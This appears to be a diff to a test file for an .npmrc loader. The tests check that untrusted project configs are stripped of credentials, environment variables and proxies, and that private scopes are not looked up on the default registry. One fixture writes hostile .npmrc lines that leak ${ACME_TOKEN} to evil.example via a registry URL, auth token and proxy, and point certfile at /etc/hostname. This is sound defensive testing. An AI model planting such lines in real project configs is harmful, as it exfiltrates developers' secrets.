@@ -3,7 +3,7 @@ import * as fs from 'fs';
 import * as os from 'os';
 import * as path from 'path';
 import { nodeFileSystem } from '../../server/src/core/io';
-import { loadNpmConfig, registryFor } from '../../server/src/core/registry/npmrc';
+import { loadNpmConfig, refusedByPrivateScope, registryFor } from '../../server/src/core/registry/npmrc';
 import { normalizeSettings } from '../../server/src/core/config/settings';
 
 describe('.npmrc layering', () => {
@@ -26,10 +26,51 @@ describe('.npmrc layering', () => {
     assert.deepStrictEqual(registryFor(c, 'react'), { url: 'https://user.example/', scoped: false });
   });
 
-  it('an untrusted workspace does not get its .npmrc read', () => {
-    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: project, trusted: false });
-    assert.strictEqual(c.options['@corp:registry'], undefined);
-    assert.ok(!c.sources.some((s) => s.startsWith(project)));
+  it('untrusted, the project .npmrc gives registry lines only: no credentials, no ${VAR}, no proxy', () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-npmrc-untrusted-'));
+    fs.writeFileSync(path.join(dir, '.npmrc'), [
+      '@corp:registry=https://corp.example/',
+      '@leak:registry=https://evil.example/${ACME_TOKEN}/',
+      '//corp.example/:_authToken=${ACME_TOKEN}',
+      '//evil.example/:_auth=c2VjcmV0',
+      'https-proxy=http://evil.example:8080/',
+      '//evil.example/:certfile=/etc/hostname',
+    ].join('\n'));
+    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: dir, trusted: false });
+    assert.strictEqual(c.options['@corp:registry'], 'https://corp.example/');
+    assert.strictEqual(c.options['@leak:registry'], undefined);
+    // Only the user's own line for acme.example carries the token; nothing from the project does.
+    const fromProject = Object.entries(c.options).filter(([k]) => !k.startsWith('//acme.example/'));
+    assert.ok(!JSON.stringify(fromProject).includes('s3cret'), 'no environment value reaches the options through the project');
+    assert.ok(!fromProject.some(([k]) => /_auth|proxy|certfile/.test(k)), JSON.stringify(c.options));
+    assert.deepStrictEqual(c.withheldCredentials.sort(), ['//corp.example/', '//evil.example/']);
+    const trusted = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: dir, trusted: true });
+    assert.strictEqual(trusted.options['//corp.example/:_authToken'], 's3cret');
+  });
+
+  it('reads the project .npmrc only at the project root (or its workspace root), never above', () => {
+    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-npmrc-above-'));
+    fs.writeFileSync(path.join(parent, '.npmrc'), 'registry=https://above.example/\n');
+    const pkg = path.join(parent, 'pkg');
+    fs.mkdirSync(pkg);
+    fs.writeFileSync(path.join(pkg, 'package.json'), '{}');
+    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: pkg, trusted: true });
+    assert.strictEqual(c.options.registry, 'https://user.example/');
+    const member = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: pkg, workspaceRoot: parent, trusted: true });
+    assert.strictEqual(member.options.registry, 'https://above.example/');
+  });
+
+  it('a scope with a registry line of its own is private: its @types names never go to the default registry', () => {
+    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: project, trusted: false, privateScopes: ['@secret'] });
+    assert.strictEqual(refusedByPrivateScope(c, '@corp/x'), undefined, 'to its own registry');
+    assert.match(refusedByPrivateScope(c, '@types/corp__x') ?? '', /not sent to https:\/\/user\.example\//);
+    assert.match(refusedByPrivateScope(c, '@secret/x') ?? '', /no registry of its own/);
+    assert.match(refusedByPrivateScope(c, '@types/secret__x') ?? '', /not looked up/);
+    assert.strictEqual(refusedByPrivateScope(c, '@types/node'), undefined);
+    assert.strictEqual(refusedByPrivateScope(c, 'lodash'), undefined);
+    const closed = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: project, trusted: false, privateScopes: ['*'] });
+    assert.ok(refusedByPrivateScope(closed, '@anything/x'), 'fails closed for every scope');
+    assert.strictEqual(refusedByPrivateScope(closed, 'lodash'), undefined);
   });
 
   it('npm_config_registry in the environment wins', () => {
